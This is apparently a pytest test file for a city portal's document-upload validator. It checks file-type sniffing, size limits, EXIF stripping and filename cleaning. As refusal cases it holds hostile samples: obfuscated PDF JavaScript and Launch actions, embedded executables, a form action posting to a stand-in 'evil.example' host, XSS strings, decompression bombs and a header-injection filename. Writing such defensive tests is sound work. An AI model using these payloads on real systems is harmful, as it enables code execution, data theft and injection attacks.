"""Papers that citizens send, with real bytes: what is taken, what is refused, and what becomes of the rest."""

from __future__ import annotations

import zipfile
from io import BytesIO

import pytest
from PIL import ExifTags, Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript

from kmc_portal.common import pdf as pdf_of_ours
from kmc_portal.common import upload_checks
from kmc_portal.common.uploads import (
    Kind,
    PaperActive,
    PaperDamaged,
    PaperLocked,
    PaperMissing,
    PaperTooLarge,
    PaperTooMany,
    PaperTypeRefused,
    read_paper,
    read_papers,
    shown_name,
)
from kmc_portal.tests.papers_by_hand import packed_pdf, pdf, picture, sent
from kmc_portal.tests.test_pdf import ENGLISH, NOON

MEGABYTE = 1024 * 1024
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def zipped() -> bytes:
    written = BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        archive.writestr("paper.pdf", pdf())
    return written.getvalue()


# --- By content -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (pdf(), Kind.PDF),
        (packed_pdf(b"<< /S /GoTo /D [3 0 R /Fit] >>"), Kind.PDF),
        (picture("JPEG"), Kind.JPEG),
        (picture("JPEG", mode="CMYK"), Kind.JPEG),
        (picture("PNG"), Kind.PNG),
        (picture("PNG", mode="P"), Kind.PNG),
    ],
    ids=["pdf", "packed pdf", "jpeg", "jpeg in cmyk", "png", "png with a palette"],
)
def test_kind_is_told_by_the_content_whatever_the_name_says(content, kind):
    assert read_paper(sent(content, "photo.exe")).kind == kind


@pytest.mark.parametrize(
    "content",
    [
        zipped(),
        b"MZ\x90\0",
        b"<script>alert(1)</script>",
        b"<svg onload='alert(1)'/>",
        picture("GIF"),
        b" " + pdf(),
        b"",
        b"%PD",
    ],
    ids=["zip", "program", "page", "svg", "gif", "pdf behind a space", "nothing", "too short"],
)
def test_anything_else_named_pdf_is_refused(content):
    with pytest.raises(PaperTypeRefused):
        read_paper(sent(content, "paper.pdf"))


def test_receipt_of_ours_is_a_paper():
    receipt = pdf_of_ours.render("receipt", ENGLISH, language="en", timestamp=NOON)

    assert read_paper(sent(receipt)).kind == Kind.PDF


def test_links_and_places_in_a_pdf_are_no_program():
    link = b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://kmcgov.in/) >> >>"

    assert read_paper(sent(pdf(link, catalogue=b"/OpenAction [3 0 R /Fit]"))).kind == Kind.PDF


@pytest.mark.parametrize(
    "content",
    [
        pdf(SCRIPT, catalogue=b"/OpenAction 4 0 R"),
        pdf(b"<< /S /J#61vaScript /J#53 (1) >>", catalogue=b"/OpenAction 4 0 R"),
        packed_pdf(SCRIPT),
        packed_pdf(b"<< /S /Launch /F (calc.exe) >>"),
        pdf(b"<< /S /L#61unch /F (calc.exe) >>"),
        pdf(catalogue=b"/Names << /EmbeddedFiles << /Names [] >> >>"),
        pdf(b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>"),
        pdf(b"<< /Type /Annot /Subtype /RichMedia >>"),
        pdf(b"[[<< /S /SubmitForm /F (https://evil.example/) >>]]"),
        pdf(catalogue=b"/AcroForm << /XFA [] >>"),
        pdf(b"<< /S 5 0 R /F (calc.exe) >>", b"/L#61unch"),
        pdf(catalogue=b"/AA << /O << /Next [<< /S /JavaScri#70t >>] >> >>"),
    ],
    ids=[
        "script", "script in disguise", "script packed", "launch packed", "launch in disguise", "files", "file", "media", "form",
        "xfa", "name elsewhere", "deep",
    ],
)  # fmt: skip
def test_pdf_that_acts_is_refused(content):
    with pytest.raises(PaperActive):
        read_paper(sent(content))


def test_pdf_with_a_script_that_a_library_wrote_is_refused():
    writer, written = PdfWriter(), BytesIO()
    writer.add_blank_page(9, 9)
    writer.add_open_action(JavaScript("app.alert(1)"))
    writer.write(written)

    with pytest.raises(PaperActive):
        read_paper(sent(written.getvalue()))


def test_pdf_with_a_file_in_it_is_refused():
    writer, written = PdfWriter(), BytesIO()
    writer.add_blank_page(9, 9)
    writer.add_attachment("a.exe", b"MZ")
    writer.write(written)

    with pytest.raises(PaperActive):
        read_paper(sent(written.getvalue()))


@pytest.mark.parametrize("password", ["", "secret"], ids=["of the owner alone", "to open it"])
def test_pdf_with_a_password_is_refused(password):
    writer, written = PdfWriter(), BytesIO()
    writer.add_blank_page(9, 9)
    writer.encrypt(user_password=password, owner_password="owner", algorithm="RC4-128")
    writer.write(written)

    with pytest.raises(PaperLocked):
        read_paper(sent(written.getvalue()))


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.7\n",
        pdf()[:200],
        b"%PDF-1.7\n" + bytes(range(256)) * 20,
        pdf(b"[" * 5000),
        picture("JPEG")[:-200],
        picture("PNG")[:60],
        b"\xff\xd8\xff" + b"\0" * 500,
    ],
    ids=["head alone", "cut pdf", "noise", "endless nesting", "cut jpeg", "cut png", "no jpeg"],
)
def test_damaged_paper_is_refused(content):
    with pytest.raises(PaperDamaged):
        read_paper(sent(content))


def test_pdf_of_too_many_objects_is_refused(monkeypatch):
    monkeypatch.setattr(upload_checks, "MOST_OBJECTS", 3)

    with pytest.raises(PaperDamaged):
        read_paper(sent(pdf(b"<< >>")))


def test_small_pdf_that_unpacks_to_much_is_refused():
    assert read_paper(sent(packed_pdf(b"<< >>", blanks=3_000_000))).kind == Kind.PDF
    with pytest.raises(PaperDamaged):
        read_paper(sent(packed_pdf(b"<< >>", blanks=5_000_000)))


def test_small_file_that_claims_to_be_a_wall_is_refused():
    wall = picture("PNG", size=(6000, 6000), mode="1")
    assert len(wall) < 20_000

    with pytest.raises(PaperDamaged):
        read_paper(sent(wall))


def test_photo_loses_its_place_and_comment_and_what_hides_behind_it_and_stands_upright():
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.Base.Make] = "Camera of Rina"
    exif.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitude] = (22.0, 34.0, 0.0)
    photo = picture("JPEG", exif=exif.tobytes(), comment=b"of Rina") + zipped()

    kept = read_paper(sent(photo)).content

    drawn = Image.open(BytesIO(kept))
    assert (drawn.size, dict(drawn.getexif()), drawn.info.get("comment")) == ((30, 40), {}, None)
    assert (b"Rina" in kept, b"PK\x03\x04" in kept) == (False, False)


# --- How much ---------------------------------------------------------------------------------------------------------


def test_paper_of_five_megabytes_is_taken_and_one_byte_more_is_not():
    filled = pdf() + b"%" * (5 * MEGABYTE - len(pdf()))

    assert read_paper(sent(filled)).kind == Kind.PDF
    with pytest.raises(PaperTooLarge):
        read_paper(sent(filled + b"%"))


@pytest.mark.parametrize("nothing", [None, ""])
def test_no_paper_is_missing(nothing):
    with pytest.raises(PaperMissing):
        read_paper(nothing)


def test_papers_are_counted():
    assert [paper.kind for paper in read_papers([sent(pdf()), sent(picture("PNG"))], at_most=2)] == [Kind.PDF, Kind.PNG]
    with pytest.raises(PaperTooMany):
        read_papers([sent(pdf())] * 3, at_most=2)
    with pytest.raises(PaperMissing):
        read_papers([], at_most=2)


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("voter card.pdf", "voter card.pdf"),
        ("C:\\Users\\Rina\\card.pdf", "card.pdf"),
        ("a" * 100 + ".pdf", "a" * 30 + "…" + "aaaaa.pdf"),
        ("ভোটার কার্ড.pdf", "ভোটার কার্ড.pdf"),
        ("a\r\nSet-Cookie: b.pdf", "aSet-Cookie: b.pdf"),
        ("", ""),
    ],
)
def test_shown_name_is_short_and_seen_whole(name, shown):
    assert shown_name(name) == shown
